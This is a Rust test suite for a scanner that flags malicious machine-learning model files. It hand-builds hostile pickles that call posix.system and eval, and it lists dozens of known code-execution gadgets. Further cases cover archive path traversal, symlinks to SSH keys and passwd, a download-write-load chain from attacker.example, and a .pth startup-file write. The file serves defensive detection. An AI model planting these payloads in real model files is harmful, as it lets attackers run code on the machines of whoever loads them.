//! Issue 14: attacks written by someone who has read the catalog, each beside a benign
//! look-alike that must stay clean. Pickles are hand-assembled opcode by opcode (the shapes the
//! real unpickler accepts); nothing here is ever loaded.

mod common;

use common::{Member, scan, zip};
use modelward_pickle::assemble::Assembler as A;

/// `module.name(arg)` through REDUCE.
fn call(module: &str, name: &str, arg: &str) -> Vec<u8> {
    A::new().proto(2).call1(module, name, arg).stop().finish()
}

/// `{'f': module.name}`: the name only stored as a value.
fn stored(module: &str, name: &str) -> Vec<u8> {
    A::new()
        .proto(2)
        .empty_dict()
        .short_binunicode("f")
        .global(module, name)
        .setitem()
        .stop()
        .finish()
}

fn verdict(data: &[u8]) -> String {
    scan(data).verdict.as_str().to_owned()
}

fn has(data: &[u8], rule: &str) -> bool {
    scan(data).findings.iter().any(|f| f.rule == rule)
}

fn messages(data: &[u8]) -> String {
    scan(data)
        .findings
        .iter()
        .map(|f| format!("{} {} | {}\n", f.rule, f.severity, f.message))
        .collect()
}

// ---- 1. usage-sensitive judging ---------------------------------------------------------------

#[test]
fn an_unreviewed_name_only_stored_is_low_and_the_file_stays_clean() {
    let p = stored("gensim.utils", "some_helper");
    let r = scan(&p);
    assert_eq!(r.verdict.as_str(), "clean", "{}", messages(&p));
    let f = r.findings.iter().find(|f| f.rule == "PKL205").expect("PKL205");
    assert_eq!(f.severity.to_string(), "low");
    assert!(f.message.contains("only to store it as a value"), "{}", f.message);
    // The same name called is not low.
    assert_eq!(verdict(&call("gensim.utils", "some_helper", "x")), "suspicious");
    assert_eq!(verdict(&call("mylib.helpers", "fn", "x")), "malicious");
    // Passed directly to a call (an unannotated one), or constructed: medium.
    let passed = A::new()
        .proto(2)
        .global("mylib.x", "make")
        .global("mylib.helpers", "fn")
        .tuple1()
        .reduce()
        .stop()
        .finish();
    assert!(
        messages(&passed).contains("passes mylib.helpers.fn"),
        "{}",
        messages(&passed)
    );
}

#[test]
fn a_dangerous_name_is_critical_whatever_the_use() {
    for p in [
        stored("posix", "system"),
        stored("builtins", "eval"),
        call("posix", "system", "id"),
    ] {
        assert_eq!(verdict(&p), "malicious", "{}", messages(&p));
    }
    assert!(messages(&stored("posix", "system")).contains("imports posix.system"));
}

#[test]
fn a_class_built_by_a_reconstruction_helper_is_constructed_not_stored() {
    // copy_reg._reconstructor(mylib.Net, object, None): the class is instantiated.
    let p = A::new()
        .proto(2)
        .global("copy_reg", "_reconstructor")
        .global("mylib.models", "Net")
        .global("__builtin__", "object")
        .none()
        .tuple3()
        .reduce()
        .stop()
        .finish();
    let m = messages(&p);
    assert!(
        m.contains("PKL202") && m.contains("constructs mylib.models.Net"),
        "{m}"
    );
    assert_eq!(verdict(&p), "suspicious");
}

// ---- 6. re-exports ------------------------------------------------------------------------------

#[test]
fn a_library_reexport_of_a_stdlib_object_is_judged_as_that_object() {
    for (m, n, rule) in [
        ("datasets.utils.py_utils", "CodeType", "PKL106"),
        ("datasets.utils.py_utils", "FunctionType", "PKL106"),
        ("transformers.models.x.tokenization_x", "Pool", "PKL102"),
        ("lightning.pytorch.strategies.launchers", "Process", "PKL102"),
        ("somelib.compat", "check_output", "PKL102"),
    ] {
        let p = call(m, n, "x");
        assert!(has(&p, rule), "{m}.{n}: {}", messages(&p));
        assert_eq!(verdict(&p), "malicious", "{m}.{n}");
        assert!(messages(&p).contains("re-export"), "{}", messages(&p));
    }
    // The walk form too.
    let p = A::new()
        .proto(4)
        .short_binunicode("datasets.utils.py_utils")
        .short_binunicode("types.CodeType")
        .stack_global()
        .stop()
        .finish();
    assert_eq!(verdict(&p), "malicious", "{}", messages(&p));
}

#[test]
fn exact_reviewed_names_stay_clean_and_unlisted_library_classes_are_only_suspicious() {
    let clean = A::new()
        .proto(2)
        .global("sklearn.linear_model._base", "LinearRegression")
        .empty_tuple()
        .newobj()
        .empty_dict()
        .build()
        .stop()
        .finish();
    assert_eq!(verdict(&clean), "clean", "{}", messages(&clean));
    // Formerly admitted by a capitalised-name pattern; now unreviewed, so suspicious (not clean).
    let p = A::new()
        .proto(2)
        .global("datasets.arrow_dataset", "Dataset")
        .empty_tuple()
        .newobj()
        .stop()
        .finish();
    assert_eq!(verdict(&p), "suspicious", "{}", messages(&p));
}

// ---- 7. trampolines -----------------------------------------------------------------------------

#[test]
fn an_argument_that_a_trampoline_calls_is_judged_as_called() {
    // _rebuild_from_type_v2(mylib.fn, torch.Tensor, (), {}) calls mylib.fn().
    let p = A::new()
        .proto(2)
        .global("torch._tensor", "_rebuild_from_type_v2")
        .mark()
        .global("mylib.gadgets", "fn")
        .global("torch", "Tensor")
        .empty_tuple()
        .empty_dict()
        .tuple()
        .reduce()
        .stop()
        .finish();
    let m = messages(&p);
    assert!(m.contains("PKL201") && m.contains("calls its argument 0"), "{m}");
    assert_eq!(verdict(&p), "malicious");
    // numpy's RNG ctor: __generator_ctor(name, ctor) calls ctor; ctor from the memo.
    let p = A::new()
        .proto(2)
        .global("mylib.gadgets", "ctor")
        .binput(7)
        .pop()
        .global("numpy.random._pickle", "__generator_ctor")
        .short_binunicode("MT19937")
        .binget(7)
        .tuple2()
        .reduce()
        .stop()
        .finish();
    let m = messages(&p);
    assert!(m.contains("PKL201") && m.contains("mylib.gadgets.ctor"), "{m}");
    // The argument is another call's result: a dynamic call.
    let p = A::new()
        .proto(2)
        .global("numpy.random._pickle", "__generator_ctor")
        .short_binunicode("MT19937")
        .global("mylib.f", "factory")
        .empty_tuple()
        .reduce()
        .tuple2()
        .reduce()
        .stop()
        .finish();
    assert!(has(&p, "PKL204"), "{}", messages(&p));
}

#[test]
fn trampolines_with_their_real_arguments_stay_clean() {
    let p = A::new()
        .proto(2)
        .global("numpy.random._pickle", "__generator_ctor")
        .short_binunicode("PCG64")
        .global("numpy.random._pickle", "__bit_generator_ctor")
        .tuple2()
        .reduce()
        .stop()
        .finish();
    assert_eq!(verdict(&p), "clean", "{}", messages(&p));
    let p = A::new()
        .proto(2)
        .global("torch._tensor", "_rebuild_from_type_v2")
        .mark()
        .global("torch._utils", "_rebuild_tensor_v2")
        .global("torch", "Tensor")
        .empty_tuple()
        .empty_dict()
        .tuple()
        .reduce()
        .stop()
        .finish();
    assert_eq!(verdict(&p), "clean", "{}", messages(&p));
}

#[test]
fn calling_a_partial_calls_the_function_it_wraps() {
    let partial = |fm: &str, f: &str| {
        A::new()
            .proto(2)
            .global("functools", "partial")
            .global(fm, f)
            .tuple1()
            .reduce()
    };
    // A stored partial of an unreviewed function cannot run: clean.
    let p = partial("mylib.cb", "on_epoch").stop().finish();
    assert_eq!(verdict(&p), "clean", "{}", messages(&p));
    // Called: the wrapped function is called.
    let p = partial("mylib.cb", "on_epoch")
        .empty_tuple()
        .reduce()
        .stop()
        .finish();
    let m = messages(&p);
    assert!(
        m.contains("PKL201") && m.contains("called through functools.partial"),
        "{m}"
    );
}

// ---- 8, 9, 10c. resolvers, writers, downloaders, private paths ---------------------------------

#[test]
fn resolvers_writers_io_constructors_and_downloaders_are_dangerous() {
    for (m, n, rule) in [
        ("hydra.utils", "instantiate", "PKL103"),
        ("hydra.utils", "get_method", "PKL103"),
        ("hydra._internal.utils", "_locate", "PKL103"),
        ("torch._utils", "_import_dotted_name", "PKL103"),
        ("unittest.mock", "_importer", "PKL103"),
        (
            "transformers.dynamic_module_utils",
            "get_class_from_dynamic_module",
            "PKL103",
        ),
        ("torch.fx.graph_module", "reduce_graph_module", "PKL101"),
        ("lightning.fabric.utilities.cloud_io", "_load", "PKL104"),
        ("torch.serialization", "add_safe_globals", "PKL104"),
        ("torch.serialization", "_default_to_weights_only", "PKL104"),
        ("tensorflow.io", "write_file", "PKL105"),
        ("numpy", "memmap", "PKL105"),
        ("numpy", "DataSource", "PKL105"),
        ("gzip", "GzipFile", "PKL105"),
        ("bz2", "BZ2File", "PKL105"),
        ("lzma", "LZMAFile", "PKL105"),
        ("wave", "open", "PKL105"),
        ("codecs", "open", "PKL105"),
        ("pandas", "read_csv", "PKL105"),
        ("pandas.io.common", "urlopen", "PKL105"),
        (
            "torchvision.datasets.utils",
            "download_and_extract_archive",
            "PKL105",
        ),
        ("torchvision.datasets.mnist", "MNIST", "PKL105"),
        ("gensim.downloader", "load", "PKL105"),
        ("gensim.models.word2vec", "Word2Vec.load", "PKL104"),
        (
            "gensim.models.keyedvectors",
            "KeyedVectors.load_word2vec_format",
            "PKL104",
        ),
        ("smart_open", "open", "PKL105"),
        // Pickle loading paths of ML frameworks (Hide and Seek, 2025).
        ("fairseq.checkpoint_utils", "load_checkpoint_to_cpu", "PKL104"),
        ("mmengine.runner.checkpoint", "_load_checkpoint", "PKL104"),
        (
            "lightning.pytorch.core.module",
            "LightningModule.load_from_checkpoint",
            "PKL104",
        ),
        (
            "nemo.core.connectors.save_restore_connector",
            "SaveRestoreConnector.restore_from",
            "PKL104",
        ),
        ("keras.datasets.imdb", "load_data", "PKL104"),
        ("datasets", "load_from_disk", "PKL104"),
        ("sklearn.datasets", "fetch_openml", "PKL105"),
    ] {
        let p = call(m, n, "x");
        assert!(has(&p, rule), "{m}.{n}: {}", messages(&p));
    }
}

#[test]
fn a_private_implementation_path_gets_the_public_names_judgement() {
    for (m, n, rule) in [
        ("numpy._core.memmap", "memmap", "PKL105"),
        ("numpy.lib._datasource", "DataSource", "PKL105"),
        ("keras.src.utils.file_utils", "get_file", "PKL105"),
        (
            "keras.src.saving.serialization_lib",
            "enable_unsafe_deserialization",
            "PKL104",
        ),
        ("_functools", "reduce", "PKL103"),
    ] {
        let p = call(m, n, "x");
        assert!(has(&p, rule), "{m}.{n}: {}", messages(&p));
    }
    // The private path of a safe name is that name.
    let p = A::new()
        .proto(2)
        .global("_collections", "OrderedDict")
        .empty_tuple()
        .reduce()
        .stop()
        .finish();
    assert_eq!(verdict(&p), "clean", "{}", messages(&p));
}

#[test]
fn explain_and_scan_judge_with_one_function() {
    let policy = modelward_policy::Policy::builtin();
    for (m, n) in [
        ("numpy._core.memmap", "memmap"),
        ("pathlib", "os.system"),
        ("datasets.x", "CodeType"),
    ] {
        let r = policy.judge_global(m, n);
        assert!(
            matches!(r.judgement, modelward_policy::Judgement::Dangerous(_)),
            "{m}.{n}"
        );
        assert_eq!(policy.globals().judge_path(m, n).1, r.path);
    }
}

// ---- 14. archives -------------------------------------------------------------------------------

fn tar_with(entries: &[(&str, tar::EntryType, Option<&str>, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, kind, link, data) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(*kind);
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        // Raw name bytes: tar's own setter refuses `..`, an attacker's writer does not.
        let raw = &mut h.as_old_mut().name;
        raw[..name.len()].copy_from_slice(name.as_bytes());
        if let Some(l) = link {
            h.set_link_name(l).expect("link");
        }
        h.set_cksum();
        b.append(&h, *data).expect("append");
    }
    b.into_inner().expect("tar")
}

#[test]
fn one_member_path_check_for_zip_tar_and_7z() {
    let pkl = A::new().proto(2).empty_dict().stop().finish();
    for name in [
        "../../evil.pkl",
        "/etc/x.pkl",
        "C:\\x\\evil.pkl",
        "a/../../evil.pkl",
        "..\\evil.pkl",
    ] {
        let z = zip(&[Member::stored(name, &pkl)]);
        let r = scan(&z);
        let f = r.findings.iter().find(|f| f.rule == "ARC204");
        assert!(
            f.is_some_and(|f| f.message.contains(&format!("{name:?}"))),
            "zip {name}: {r:?}"
        );
        assert_eq!(r.verdict.as_str(), "malicious", "zip {name}");
        let t = tar_with(&[(name, tar::EntryType::Regular, None, &pkl)]);
        assert!(has(&t, "ARC204"), "tar {name}: {}", messages(&t));
    }
    let z = zip(&[Member::stored("model/a/../weights.pkl", &pkl)]);
    assert_eq!(verdict(&z), "clean", "{}", messages(&z));
    let t = tar_with(&[("model/weights.pkl", tar::EntryType::Regular, None, &pkl)]);
    assert_eq!(verdict(&t), "clean", "{}", messages(&t));
}

#[test]
fn tar_links_and_devices_are_high_with_the_path_shown() {
    for (kind, link) in [
        (tar::EntryType::Symlink, Some("/root/.ssh/authorized_keys")),
        (tar::EntryType::Link, Some("../../etc/passwd")),
        (tar::EntryType::Char, None),
        (tar::EntryType::Fifo, None),
    ] {
        let t = tar_with(&[("model/cfg", kind, link, b"")]);
        let r = scan(&t);
        let f = r
            .findings
            .iter()
            .find(|f| f.rule == "ARC205")
            .unwrap_or_else(|| panic!("{kind:?}: {r:?}"));
        assert!(f.message.contains("model/cfg"), "{}", f.message);
        if let Some(l) = link {
            assert!(f.message.contains(l), "{}", f.message);
        }
        assert_eq!(r.verdict.as_str(), "malicious");
    }
    let t = tar_with(&[("model/", tar::EntryType::Directory, None, b"")]);
    assert_eq!(verdict(&t), "clean", "{}", messages(&t));
}

// ---- 16. advisories (picklescan / fickling 2025-2026, Hide and Seek gadgets) --------------------

/// Gadgets named in the advisories and the Hide-and-Seek study; each must be malicious.
const ADVISORY_GADGETS: &[(&str, &str)] = &[
    ("pkgutil", "resolve_name"),
    ("pydoc", "locate"),
    ("_operator", "attrgetter"),
    ("_operator", "methodcaller"),
    ("operator", "call"),
    ("uuid", "_get_command_stdout"),
    ("imaplib", "IMAP4_stream"),
    ("_osx_support", "_read_output"),
    ("_aix_support", "_read_cmd_output"),
    ("_pyrepl.pager", "pipe_pager"),
    ("test.support.script_helper", "assert_python_ok"),
    ("cProfile", "run"),
    ("profile", "Profile.runctx"),
    ("trace", "Trace.runctx"),
    ("doctest", "debug_script"),
    ("code", "InteractiveInterpreter.runcode"),
    ("ensurepip", "_run_pip"),
    ("timeit", "timeit"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcommand"),
    ("idlelib.calltip", "get_entity"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch._dynamo.guards", "GuardBuilder.get"),
    (
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
    ),
    ("torch.utils.collect_env", "run"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("torch._inductor.codecache", "compile_file"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("distutils.file_util", "write_file"),
    ("ctypes", "CDLL"),
    ("pty", "spawn"),
    ("numpy.f2py.crackfortran", "getlincoef"),
    ("mailcap", "findmatch"),
    ("setuptools._distutils.spawn", "spawn"),
    ("pipes", "Template.copy"),
    ("typing", "_eval_type"),
    ("typing", "get_type_hints"),
    ("dataclasses", "_create_fn"),
    ("numpy.testing._private.utils", "runstring"),
    ("logging.config", "dictConfig"),
    ("venv", "create"),
    ("pydoc", "pipepager"),
    ("_imp", "create_dynamic"),
    ("_frozen_importlib", "_load"),
    ("_tkinter", "create"),
    ("_winapi", "CreateProcess"),
    ("_testcapi", "run_in_subinterp"),
    ("pathlib", "os.system"),
    ("builtins", "eval.__call__"),
    ("collections", "_sys.modules"),
];

#[test]
fn every_advisory_gadget_is_malicious() {
    let mut missed = Vec::new();
    for (m, n) in ADVISORY_GADGETS {
        let p = call(m, n, "x");
        if verdict(&p) != "malicious" {
            missed.push(format!("{m}.{n}: {}", messages(&p)));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn a_discarded_call_still_counts() {
    // fickling's gap: a call whose result is POPped.
    let p = A::new()
        .proto(2)
        .call1("posix", "system", "id")
        .pop()
        .empty_dict()
        .stop()
        .finish();
    assert_eq!(verdict(&p), "malicious");
}

#[test]
fn shadowpickle_overwrites_of_an_allowed_name_are_caught() {
    // BUILD (None, {'_rebuild_tensor_v2': posix.system}) on the module torch._utils, then the
    // "allowed" name is called.
    let p = A::new()
        .proto(2)
        .global("torch", "_utils")
        .none()
        .empty_dict()
        .short_binunicode("_rebuild_tensor_v2")
        .global("posix", "system")
        .setitem()
        .tuple2()
        .build()
        .pop()
        .call1("torch._utils", "_rebuild_tensor_v2", "id")
        .stop()
        .finish();
    let r = scan(&p);
    assert!(r.findings.iter().any(|f| f.rule == "PKL302"), "{r:?}");
    assert_eq!(r.verdict.as_str(), "malicious");
    // SETITEM on a class object (its __setitem__ / a dict attribute of a module).
    let p = A::new()
        .proto(2)
        .global("collections", "OrderedDict")
        .short_binunicode("k")
        .global("posix", "system")
        .setitem()
        .stop()
        .finish();
    assert!(has(&p, "PKL304"), "{}", messages(&p));
    // Look-alike: BUILD on an instance of an allowed class.
    let p = A::new()
        .proto(2)
        .global("collections", "OrderedDict")
        .empty_tuple()
        .reduce()
        .empty_dict()
        .build()
        .stop()
        .finish();
    assert_eq!(verdict(&p), "clean", "{}", messages(&p));
}

// ---- 15. ONNX external data ---------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn onnx_external_data_through_a_symlink_is_high_and_a_real_file_beside_it_is_clean() {
    let fixture = common::repo().join("tests/fixtures/onnx/ok_external_same_dir.onnx");
    let base = std::env::temp_dir().join(format!("modelward-issue14-onnx-{}", std::process::id()));
    for (sub, link) in [("plain", false), ("linked", true)] {
        let dir = base.join(sub);
        std::fs::create_dir_all(&dir).expect("dir");
        std::fs::copy(&fixture, dir.join("ok_external_same_dir.onnx")).expect("copy");
        let data = dir.join("ok_external_same_dir.onnx.data");
        let _ = std::fs::remove_file(&data);
        if link {
            let outside = base.join("elsewhere.bin");
            std::fs::copy(fixture.with_extension("onnx.data"), &outside).expect("copy");
            std::os::unix::fs::symlink(&outside, &data).expect("symlink");
        } else {
            std::fs::copy(fixture.with_extension("onnx.data"), &data).expect("copy");
        }
        let r = common::scan_file(&dir.join("ok_external_same_dir.onnx"));
        let hit = r.findings.iter().any(|f| f.rule == "ONX103");
        assert_eq!(hit, link, "{sub}: {r:?}");
        assert_eq!(
            r.verdict.as_str(),
            if link { "malicious" } else { "clean" },
            "{sub}"
        );
    }
    let _ = std::fs::remove_dir_all(&base);
}

// ---- 13. skops ----------------------------------------------------------------------------------

#[test]
fn skops_files_from_the_real_writer_are_judged_by_the_global_policy() {
    let dir = common::repo().join("tests/fixtures/skops");
    for (name, want, rule) in [
        ("ok_pipeline.skops", "clean", None),
        ("ok_function_numpy.skops", "clean", None),
        ("bad_function_os_system.skops", "malicious", Some("SKP101")),
        ("bad_operator_methodcaller.skops", "malicious", Some("SKP101")),
        ("bad_type_subprocess_popen.skops", "malicious", Some("SKP101")),
        ("sus_type_unreviewed.skops", "suspicious", Some("SKP102")),
    ] {
        let r = common::scan_file(&dir.join(name));
        assert_eq!(r.verdict.as_str(), want, "{name}: {r:?}");
        if let Some(rule) = rule {
            assert!(r.findings.iter().any(|f| f.rule == rule), "{name}: {r:?}");
        }
    }
}

// ---- 10b. evidence adds up ----------------------------------------------------------------------

#[test]
fn three_suspicious_steps_that_form_rce_are_malicious_and_named() {
    // Each call is an unreviewed member of a known library (medium alone).
    let p = A::new()
        .proto(2)
        .call1(
            "torch.utils.fetchers",
            "fetch_blob",
            "https://attacker.example/payload.bin",
        )
        .pop()
        .call1("torch.utils.fetchers", "write_blob", "/tmp/payload.bin")
        .pop()
        .call1("torch.utils.fetchers", "load_blob", "/tmp/payload.bin")
        .stop()
        .finish();
    let r = scan(&p);
    assert_eq!(r.verdict.as_str(), "malicious", "{}", messages(&p));
    let chain = r.findings.iter().find(|f| f.rule == "CHN102").expect("CHN102");
    assert!(
        chain.message.contains("download:")
            && chain.message.contains("write:")
            && chain.message.contains("load-or-execute:"),
        "{}",
        chain.message
    );
    // The same library calls without a download are only suspicious.
    let p = A::new()
        .proto(2)
        .call1("torch.utils.fetchers", "describe_blob", "weights")
        .stop()
        .finish();
    assert_eq!(verdict(&p), "suspicious", "{}", messages(&p));
}

#[test]
fn a_write_into_a_startup_location_is_a_chain_and_a_model_named_pth_is_not() {
    let p = A::new()
        .proto(2)
        .call1(
            "torch.utils.cache",
            "write_text_file",
            "/usr/lib/python3/site-packages/evil.pth",
        )
        .stop()
        .finish();
    let r = scan(&p);
    assert!(r.findings.iter().any(|f| f.rule == "CHN103"), "{}", messages(&p));
    assert_eq!(r.verdict.as_str(), "malicious");
    let p = A::new()
        .proto(2)
        .call1("torch.utils.cache", "describe", "model.pth")
        .stop()
        .finish();
    assert!(!has(&p, "CHN103"), "{}", messages(&p));
}

// ---- 4. protocol 0 with long lines --------------------------------------------------------------

#[test]
fn long_protocol_0_text_lines_are_read_not_reported_as_malformed() {
    // A Python 2 pickle of a dict holding one 300 KB str (a vocabulary in one STRING).
    let long = "a".repeat(300_000);
    let p = A::new()
        .op(modelward_pickle::Opcode::MARK)
        .op(modelward_pickle::Opcode::DICT)
        .string("k")
        .string(&long)
        .setitem()
        .stop()
        .finish();
    let r = scan(&p);
    assert_eq!(r.verdict.as_str(), "clean", "{}", messages(&p));
    // The payload after a long line is still seen.
    let p = A::new()
        .op(modelward_pickle::Opcode::MARK)
        .op(modelward_pickle::Opcode::DICT)
        .string("k")
        .string(&long)
        .setitem()
        .pop()
        .mark()
        .string("id")
        .inst("posix", "system")
        .stop()
        .finish();
    assert_eq!(verdict(&p), "malicious", "{}", messages(&p));
}
